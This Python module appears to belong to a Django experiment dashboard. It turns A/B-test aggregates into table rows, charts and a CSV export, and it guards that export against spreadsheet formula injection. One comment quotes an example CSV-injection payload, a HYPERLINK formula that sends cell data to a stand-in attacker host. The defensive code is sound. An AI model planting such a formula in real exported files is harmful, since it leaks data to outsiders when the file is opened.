"""The experiment dashboard's presentation (SPEC 4): `experiments.experiment_results` turned into
table rows, SVG charts and CSV. Aggregates only; nothing here can name or single out a visitor."""

import csv
import datetime as dt
import io

from django.utils import timezone

from .charts import ChartPoint, interval_chart
from .experiments import HOLDOUT, Comparison, Interval, Rate, Results, experiment_results
from .models import Site

PERIODS_DAYS = (1, 7, 14, 28, 90)


MINUS = "\u2212"


def pct(value: float | None, *, signed: bool = False, unit: str = "%") -> str:
    """One decimal everywhere; a real minus sign; `unit` " pts" for differences of rates."""
    if value is None:
        return "—"
    text = f"{value * 100:+.1f}" if signed else f"{value * 100:.1f}"
    return text.replace("-", MINUS) + unit


def interval_text(interval: Interval | None, *, signed: bool = False, unit: str = "%") -> str:
    if interval is None:
        return "—"
    return (
        f"{pct(interval.low, signed=signed, unit='')} to {pct(interval.high, signed=signed, unit='')}{unit}"
    )


def comparison_row(comparison: Comparison) -> dict:
    return {
        "control": comparison.control,
        "absolute": pct(comparison.absolute, signed=True, unit=" pts"),
        "absolute_interval": interval_text(comparison.absolute_interval, signed=True, unit=" pts"),
        "relative": pct(comparison.relative, signed=True),
        "relative_interval": interval_text(comparison.relative_interval, signed=True),
        "needed": "—" if comparison.needed_total is None else f"{comparison.needed_total:,}",
        "verdict": _verdict(comparison),
    }


def _verdict(comparison: Comparison) -> str:
    interval = comparison.absolute_interval
    if interval is None:
        return "not enough data"
    if interval.low > 0:
        return "better than " + comparison.control
    if interval.high < 0:
        return "worse than " + comparison.control
    return "no clear difference yet"


def _point(label: str, counts: Rate) -> ChartPoint:
    interval = counts.interval
    return ChartPoint(
        label=label,
        value=counts.rate,
        low=interval.low if interval else None,
        high=interval.high if interval else None,
        visitors=counts.visitors,
    )


def headline(results: Results) -> dict | None:
    """Site-wide: visitors shown notifications against the holdout."""
    if not (results.overall_shown.visitors or results.overall_holdout.visitors):
        return None
    return {
        "shown": results.overall_shown,
        "shown_rate": pct(results.overall_shown.rate),
        "shown_interval": interval_text(results.overall_shown.interval),
        "holdout": results.overall_holdout,
        "holdout_rate": pct(results.overall_holdout.rate),
        "holdout_interval": interval_text(results.overall_holdout.interval),
        "comparison": comparison_row(results.overall) if results.overall else None,
        "mixed": results.mixed_visitors,
    }


def dashboard_context(
    *, site: Site, days: int, minimum_lift_pct: float, now: dt.datetime | None = None
) -> dict:
    until = now or timezone.now()
    results = experiment_results(
        site=site, since=until - dt.timedelta(days=days), until=until, minimum_lift_pct=minimum_lift_pct
    )
    segments = []
    for number, segment in enumerate(results.segments()):
        arms = [a for a in results.arms if a.segment == segment]
        curve = [c for c in results.curve if c.segment == segment]
        segments.append(
            {
                "name": segment,
                "arms": [
                    {
                        "name": arm.arm,
                        "is_holdout": arm.arm == HOLDOUT,
                        "visitors": arm.counts.visitors,
                        "conversions": arm.counts.conversions,
                        "rate": pct(arm.counts.rate),
                        "interval": interval_text(arm.counts.interval),
                        "shown_share": pct(arm.shown_share),
                        "comparisons": [comparison_row(c) for c in arm.comparisons],
                    }
                    for arm in arms
                ],
                "arms_chart": interval_chart(
                    [_point(arm.arm, arm.counts) for arm in arms],
                    title=f"{segment}: conversion by arm (95% intervals)",
                    chart_id=f"arms-{number}",
                ),
                "curve_chart": interval_chart(
                    [_point(point.label, point.counts) for point in curve],
                    title=f"{segment}: conversion by the highest number shown",
                    x_title="highest number a visitor was shown (0 = nothing shown)",
                    chart_id=f"curve-{number}",
                ),
            }
        )
    return {
        "site": site,
        "results": results,
        "headline": headline(results),
        "segments": segments,
        "days": days,
        "periods": PERIODS_DAYS,
        "minimum_lift_pct": minimum_lift_pct,
    }


CSV_COLUMNS = (
    "since",
    "until",
    "table",
    "segment",
    "group",
    "visitor_days",
    "conversions",
    "rate",
    "rate_low",
    "rate_high",
    "compared_to",
    "absolute_lift",
    "absolute_lift_low",
    "absolute_lift_high",
    "relative_lift",
    "relative_lift_low",
    "relative_lift_high",
    "visitor_days_still_needed",
)


# A cell a spreadsheet would read as a formula (OWASP "CSV Injection"): a segment named
# `=HYPERLINK("http://evil.example/?leak="&B2,"Open report")` would run when the file is opened.
CSV_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell_safe(value: object) -> str:
    """The cell as text, with a leading `'` when it begins like a formula (SPEC 7). Negative
    numbers too ("-0.012" becomes "'-0.012"): one rule for every cell, so no column can be
    missed, and a spreadsheet shows the `'` as text or drops it."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(CSV_FORMULA_STARTS) else text


class _SafeCsvWriter:
    """csv.writer whose every cell goes through `csv_cell_safe`."""

    def __init__(self, out: io.StringIO) -> None:
        self._writer = csv.writer(out)

    def writerow(self, row) -> None:
        self._writer.writerow([csv_cell_safe(cell) for cell in row])


def _number(value: float | None) -> str:
    return "" if value is None else f"{value:.6f}"


def results_csv(results: Results) -> str:
    """Every arm, comparison and curve point as CSV: aggregates only, one row each. UTF-8 with a
    byte-order mark, so spreadsheet programs read the labels' dashes and quotes right. Every
    cell that begins with `=`, `+`, `-`, `@`, tab or carriage return carries a leading `'`."""
    out = io.StringIO()
    out.write("\ufeff")
    period = [results.since.isoformat(timespec="seconds"), results.until.isoformat(timespec="seconds")]
    writer = _SafeCsvWriter(out)
    writer.writerow(CSV_COLUMNS)

    def counts_cells(counts: Rate) -> list[str]:
        interval = counts.interval
        return [
            str(counts.visitors),
            str(counts.conversions),
            _number(counts.rate),
            _number(interval.low if interval else None),
            _number(interval.high if interval else None),
        ]

    def comparison_cells(c: Comparison | None) -> list[str]:
        if c is None:
            return [""] * 8
        return [
            c.control,
            _number(c.absolute),
            _number(c.absolute_interval.low if c.absolute_interval else None),
            _number(c.absolute_interval.high if c.absolute_interval else None),
            _number(c.relative),
            _number(c.relative_interval.low if c.relative_interval else None),
            _number(c.relative_interval.high if c.relative_interval else None),
            "" if c.needed_total is None else str(c.needed_total),
        ]

    writer.writerow(
        [
            *period,
            "site",
            "",
            "shown notifications",
            *counts_cells(results.overall_shown),
            *comparison_cells(results.overall),
        ]
    )
    writer.writerow(
        [*period, "site", "", HOLDOUT, *counts_cells(results.overall_holdout), *comparison_cells(None)]
    )
    for arm in results.arms:
        for comparison in arm.comparisons or [None]:
            writer.writerow(
                [
                    *period,
                    "arm",
                    arm.segment,
                    arm.arm,
                    *counts_cells(arm.counts),
                    *comparison_cells(comparison),
                ]
            )
    for point in results.curve:
        writer.writerow(
            [
                *period,
                "curve",
                point.segment,
                point.label,
                *counts_cells(point.counts),
                *comparison_cells(None),
            ]
        )
    return out.getvalue()
